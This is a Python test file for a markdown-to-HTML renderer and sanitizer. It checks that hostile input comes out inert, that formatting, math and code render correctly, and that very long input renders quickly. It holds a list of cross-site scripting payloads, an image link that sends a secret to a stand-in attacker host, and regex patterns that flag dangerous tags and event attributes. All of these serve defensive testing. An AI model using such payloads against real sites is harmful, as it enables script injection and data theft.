"""Markdown of a model: what is drawn, and that nothing in it acts."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from modelyard.workbench.markdown import code_css, sanitize, split_blocks, to_html

_HOSTILE = (
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1) 'title')",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "<javascript:alert(1)>",
    "![x](https://evil.example/?q=secret)",
    '[x](https://e.example" onmouseover="alert(1))',
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "`<script>alert(1)</script>`",
    "$<script>alert(1)</script>$",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\text{</mtext><script>alert(1)</script>}$",
    "$\\unicode{x3c}script$",
    "| <iframe src=//e> | b |\n|---|---|\n| <svg onload=alert(1)> | 2 |",
    "<style>*{display:none}</style>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
)
_FORBIDDEN_TAG = re.compile(r"<(script|img|iframe|svg|style|object|embed|form|input|link|meta|base)\b", re.IGNORECASE)
_ACTION = re.compile(r"<[^>]*\s(on\w+|style|src|srcset|formaction)\s*=", re.IGNORECASE)
_BAD_LINK = re.compile(r'href="(?!https?:|mailto:)', re.IGNORECASE)


def assert_harmless(markup: str) -> None:
    assert not _FORBIDDEN_TAG.search(markup), markup
    assert not _ACTION.search(markup), markup
    assert not _BAD_LINK.search(markup), markup


@pytest.mark.parametrize("text", _HOSTILE)
def test_hostile_text_becomes_harmless_markup(text: str) -> None:
    assert_harmless(to_html(text))
    assert_harmless(sanitize(text))  # also without the parser in front


@given(st.lists(st.sampled_from([*_HOSTILE, "\n", "\n\n", "$", "`", "```", "> ", "- ", "|", "a"]), max_size=8))
def test_combinations_of_hostile_text_are_harmless(pieces: list[str]) -> None:
    for block in split_blocks("".join(pieces)):
        assert_harmless(to_html(block))


@pytest.mark.parametrize(
    ("text", "markup"),
    [
        ("**b** *i* ~~s~~ `c`", "<strong>b</strong> <em>i</em> <s>s</s> <code>c</code>"),
        ("# T", "<h1>T</h1>"),
        ("|a|b|\n|--|-:|\n|1|2|", '<td align="right">2</td>'),
        ("- a\n- b", "<li>a</li>"),
        ("$x^2$", '<math display="inline"><mrow><msup><mi>x</mi><mn>2</mn></msup></mrow></math>'),
        ("so\n\\[\nx\n\\]\nend", '<math display="block">'),
        ("in \\(x\\) it", '<math display="inline">'),
        ("$$\n\\frac{a}{b}\n$$", "<mfrac>"),
        ("\\begin{align}a&=b\\end{align}", "<mtable"),
        ("it costs $5 and $6", "it costs $5 and $6"),
        ("`$x$`", "<code>$x$</code>"),
        ("```python\nreturn 1\n```", '<span class="k">return</span>'),
        ("```python\nunfinished", "unfinished"),
        ("[x](https://e.example)", 'rel="noopener noreferrer nofollow"'),
    ],
)
def test_markdown_is_drawn(text: str, markup: str) -> None:
    assert markup in to_html(text)


def test_an_unreadable_formula_is_shown_as_it_was_written() -> None:
    assert "\\frac{" in to_html("$\\frac{$")


def test_an_image_becomes_a_link_so_that_nothing_is_fetched() -> None:
    assert to_html("![cat](https://e.example/c.png)") == (
        '<p><a href="https://e.example/c.png" target="_blank" rel="noopener noreferrer nofollow">cat</a></p>\n'
    )


@given(st.lists(st.sampled_from(["# a", "text", "- x", "1. y", "> q", "```py", "```", "|a|b|", "|-|-|", "$$", ""])))
def test_the_blocks_are_the_whole_text(lines: list[str]) -> None:
    text = "\n".join(lines)
    assert "\n".join(split_blocks(text)) == text


def test_only_the_last_block_changes_when_text_is_added() -> None:
    text = "# T\n\nfirst *paragraph*\n\n```py\na = 1\n\nb = 2\n```\n\n- x\n- y\n\nlast paragraph"
    for end in range(1, len(text)):
        complete = split_blocks(text[:end])[:-1]
        assert split_blocks(text)[: len(complete)] == complete


@pytest.mark.parametrize("text", ["[" * 50_000, "*" * 50_000, "$" * 50_000, "> " * 20_000, "`" * 50_000, "<" * 50_000])
def test_hostile_length_takes_no_time(text: str) -> None:
    started = time.process_time()
    for block in split_blocks(text):
        to_html(block)
    assert time.process_time() - started < 5  # without the limits: minutes


def test_highlighted_code_has_colours_in_both_themes() -> None:
    css = code_css()
    assert ".markdown .code .k {" in css
    assert ".body--dark .markdown .code .k {" in css
    assert "background" not in css


def test_a_text_of_very_many_paragraphs_is_rendered_only_at_its_beginning() -> None:
    """Each takes a tenth of a millisecond, and an element of the page."""
    text = "*a*\n\n" * 25_000
    blocks = split_blocks(text)
    assert len(blocks) <= 2_000
    assert "\n".join(blocks) == text
    assert to_html(blocks[0]) == "<p><em>a</em></p>\n"
    assert to_html(blocks[-1]).startswith('<p class="text">*a*')
    code = "```\n" + "x = 1\n" * 10_000 + "```"
    assert split_blocks("before\n\n" + code) == ["before\n", code]
